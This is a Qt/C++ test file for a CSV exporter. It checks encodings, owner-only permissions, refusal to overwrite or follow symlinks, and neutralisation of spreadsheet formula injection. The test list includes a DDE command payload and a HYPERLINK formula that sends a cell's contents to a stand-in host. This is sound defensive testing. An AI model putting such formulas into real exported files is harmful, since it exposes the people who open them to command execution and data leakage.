// SPDX-License-Identifier: GPL-3.0-or-later
// Lists as files: what a spreadsheet would run does not leave, every reader gets the same cells, and a file is there whole, for its owner, or not at all.
#include "exchange/csvfile.h"
#include "exchange/newfile.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>
#include <sys/stat.h>
#include <unicode/ucnv.h>
#include <unistd.h>

using namespace zhike;
using namespace zhike::exchange;
using namespace Qt::Literals::StringLiterals;

namespace {

// A reader of its own, by RFC 4180 alone.
QList<QStringList> readCsv(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const auto c = text[i];
        if (quoted) {
            if (c != u'"')
                cell += c;
            else if (i + 1 < text.size() && text[i + 1] == u'"')
                cell += text[++i];
            else
                quoted = false;
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            row.append(std::exchange(cell, {}));
        } else if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n') {
            row.append(std::exchange(cell, {}));
            rows.append(std::exchange(row, {}));
            ++i;
        } else {
            cell += c;
        }
    }
    if (!cell.isEmpty() || !row.isEmpty())
        rows.append({u"the last line does not end"_s});
    return rows;
}

QString fromGb18030(const QByteArray &bytes)
{
    auto status = U_ZERO_ERROR;
    auto *converter = ucnv_open("gb18030", &status);
    QString text(bytes.size(), Qt::Uninitialized);
    const auto size
        = ucnv_toUChars(converter, reinterpret_cast<char16_t *>(text.data()), int32_t(text.size()), bytes.constData(), int32_t(bytes.size()), &status);
    ucnv_close(converter);
    text.truncate(U_SUCCESS(status) ? size : 0);
    return text;
}

const QStringList kHostile = {u"=1+1"_s,
                              u"=cmd|' /C calc'!A0"_s,
                              u"=HYPERLINK(\"http://x.example/?\"&A1,\"打开\")"_s,
                              u"+1+1"_s,
                              u"-2+3"_s,
                              u"@SUM(1+1)"_s,
                              u"\t=1"_s,
                              u"\tplain"_s,
                              u"\r=1"_s,
                              u"\rplain"_s,
                              u"\n=1"_s,
                              u" =1"_s,
                              u"\u00a0=1"_s,
                              u"\u3000＝1"_s,
                              u"＝1+1"_s,
                              u"＋1"_s,
                              u"－1"_s,
                              u"＠SUM(1)"_s,
                              u"\u22121"_s,
                              u"=\"a\",b\r\nc"_s};
const QStringList kHarmless = {u"李明朗"_s,
                               u"C88210"_s,
                               u"2026-09-21"_s,
                               u"138****1234"_s,
                               u"**************002X"_s,
                               u"•••• 6789"_s,
                               u"a,b"_s,
                               u"he said \"no\""_s,
                               u"two\r\nlines"_s,
                               u"one\nfeed"_s,
                               u"x=1"_s,
                               u"'quoted already"_s,
                               u"\"\""_s,
                               QString(),
                               u"𠂇😀é"_s};

} // namespace

class TestExchange : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void noCellBecomesAFormula()
    {
        for (const auto encoding : {TextEncoding::Utf8, TextEncoding::Gb18030}) {
            CsvFile file(encoding);
            file.addRow(kHostile);
            file.addRow({u"before"_s, kHostile[0], u"after"_s});
            const auto text = encoding == TextEncoding::Utf8 ? QString::fromUtf8(file.bytes().mid(3)) : fromGb18030(file.bytes());
            const auto rows = readCsv(text);
            QCOMPARE(rows.size(), 2);
            QCOMPARE(rows[0].size(), kHostile.size());
            for (qsizetype i = 0; i < kHostile.size(); ++i) // nothing is lost, and the mark of a text stands before it
                QCOMPARE(rows[0][i], u'\'' + kHostile[i]);
            QCOMPARE(rows[1], (QStringList {u"before"_s, u"'=1+1"_s, u"after"_s}));
        }
    }

    void otherCellsArriveAsTheyAre()
    {
        for (const auto encoding : {TextEncoding::Utf8, TextEncoding::Gb18030}) {
            CsvFile file(encoding);
            file.addRow(kHarmless);
            file.addRow({u"x"_s});
            const auto text = encoding == TextEncoding::Utf8 ? QString::fromUtf8(file.bytes().mid(3)) : fromGb18030(file.bytes());
            const auto rows = readCsv(text);
            QCOMPARE(rows.size(), 2);
            QCOMPARE(rows[0], kHarmless);
        }
    }

    void utf8BeginsWithItsMark()
    {
        CsvFile file(TextEncoding::Utf8);
        QCOMPARE(file.bytes(), QByteArray("\xEF\xBB\xBF"));
        file.addRow({u"知客"_s, u"a"_s});
        file.addRow({u"b"_s});
        QCOMPARE(file.bytes(), QByteArray("\xEF\xBB\xBF\xE7\x9F\xA5\xE5\xAE\xA2,a\r\nb\r\n"));
    }

    // The bytes as the standard has them: two, four, and four beyond the basic plane; no mark.
    void gb18030IsTheStandards()
    {
        CsvFile file(TextEncoding::Gb18030);
        file.addRow({u"知客"_s, u"é"_s, u"\u3400"_s, u"😀"_s});
        QCOMPARE(file.bytes().toHex(' '), QByteArray("d6 aa bf cd 2c a8 a6 2c 81 39 ee 39 2c 94 39 fc 36 0d 0a"));
        QCOMPARE(encodingOf(u"GB18030"_s), TextEncoding::Gb18030);
        QCOMPARE(encodingOf(u"utf-8"_s), TextEncoding::Utf8);
        QVERIFY(!encodingOf(u"gbk"_s));
    }

    void aFileIsForItsOwnerAndWhole()
    {
        const QTemporaryDir dir;
        const auto before = ::umask(0);
        const QByteArray bytes(300'000, 'x');
        const auto made = createFile(dir.filePath(u"list.csv"_s), bytes);
        ::umask(before);
        QVERIFY(made.ok());
        QFile file(dir.filePath(u"list.csv"_s));
        QVERIFY(file.open(QIODevice::ReadOnly));
        QCOMPARE(file.readAll(), bytes);
        struct stat info { };
        QCOMPARE(::stat(QFile::encodeName(file.fileName()).constData(), &info), 0);
        QCOMPARE(int(info.st_mode & 0777), 0600);
        QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden | QDir::System), QStringList {u"list.csv"_s});
    }

    void nothingIsReplacedOrFollowed()
    {
        const QTemporaryDir dir;
        QFile there(dir.filePath(u"there.csv"_s));
        QVERIFY(there.open(QIODevice::WriteOnly) && there.write("mine") == 4);
        there.close();
        const auto refused = [](const QString &path) {
            const auto made = createFile(path, "new");
            return made ? ErrorCode::Internal : made.error().field == "path"_L1 ? made.error().code : ErrorCode::Unsupported;
        };
        QCOMPARE(refused(there.fileName()), ErrorCode::Conflict);
        QVERIFY(there.open(QIODevice::ReadOnly));
        QCOMPARE(there.readAll(), QByteArray("mine"));
        // A link that leads nowhere yet would be filled where it points to.
        QVERIFY(QFile::link(dir.filePath(u"elsewhere.csv"_s), dir.filePath(u"link.csv"_s)));
        QCOMPARE(refused(dir.filePath(u"link.csv"_s)), ErrorCode::Conflict);
        QVERIFY(!QFile::exists(dir.filePath(u"elsewhere.csv"_s)));
        QCOMPARE(refused(u"list.csv"_s), ErrorCode::Invalid);
        QCOMPARE(refused(QString()), ErrorCode::Invalid);
        QCOMPARE(refused(dir.filePath(u"none/list.csv"_s)), ErrorCode::Io);
        QCOMPARE(refused(dir.path()), ErrorCode::Conflict);
        // Not among the vault's own files.
        QVERIFY(QDir(dir.path()).mkdir(u"vault"_s));
        QFile header(dir.filePath(u"vault/vault.hdr"_s));
        QVERIFY(header.open(QIODevice::WriteOnly));
        QCOMPARE(refused(dir.filePath(u"vault/cache-2.db"_s)), ErrorCode::Io);
        QVERIFY(!QFile::exists(dir.filePath(u"vault/cache-2.db"_s)));
    }
};

QTEST_GUILESS_MAIN(TestExchange)
#include "tst_exchange.moc"
